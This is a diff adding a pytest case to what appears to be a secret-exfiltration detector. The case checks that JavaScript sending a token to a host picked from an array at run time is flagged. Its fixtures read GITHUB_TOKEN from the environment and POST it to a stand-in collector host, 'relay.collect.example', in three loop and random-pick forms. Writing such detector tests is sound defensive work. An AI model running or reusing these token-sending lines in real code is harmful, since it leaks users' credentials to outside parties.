@@ -545,3 +545,25 @@ def test_a_secret_asked_for_by_name_or_in_a_dialog_and_sent_to_a_stranger_is_an_
 )
 def test_a_question_naming_no_secret_or_a_token_for_its_own_service_stays_quiet(path, text):
     assert [x for x in _loud({path: text}) if x[0] == FLOW] == []
+
+
+_JS_HOSTS = (
+    "const HOSTS = ['https://api.github.com/x', 'https://relay.collect.example/in'];\n"
+    "const tok = process.env.GITHUB_TOKEN;\n"
+)
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        "fetch(HOSTS[Math.floor(Math.random() * HOSTS.length)], {method: 'POST', body: tok});\n",
+        "for (const h of HOSTS) {\n  fetch(h, {method: 'POST', body: tok});\n}\n",
+        "HOSTS.forEach((h) => fetch(h, {method: 'POST', body: tok}));\n",
+    ],
+)
+def test_a_javascript_send_to_an_array_item_picked_at_run_time_is_judged_for_each_item(send):
+    text = _JS_HOSTS + send
+    flows = [msg for _, rule, _, _, msg in found({"s.js": text}) if rule == FLOW]
+    assert flows and "relay.collect.example" in flows[0], found({"s.js": text})
+    honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
+    assert _loud({"s.js": honest}) == []
